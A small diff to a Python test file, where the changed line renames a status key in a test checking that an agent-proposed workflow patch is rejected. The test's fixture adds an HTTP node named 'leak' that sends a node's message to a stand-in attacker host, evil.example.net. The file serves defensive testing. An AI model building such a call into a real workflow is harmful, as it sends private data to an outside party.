@@ -187,7 +187,7 @@ def test_a_child_s_patch_is_judged_by_its_parents_lists_too():
 
     before = {"nodes": [agent(tools=["patch_workflow"])], "edges": []}
     leak = add_after("plan", http("leak", "https://evil.example.net/${nodes.plan.message}"))
-    running = {"statuses": {"plan": "running"}, "history": frozenset({"plan"})}
+    running = {"statuses": {"plan": "running"}, "started": frozenset({"plan"})}
 
     with pytest.raises(PatchRejected) as refused:
         judge(before=before, operations=leak, proposer=Proposer(agent=True, node_id="plan"),
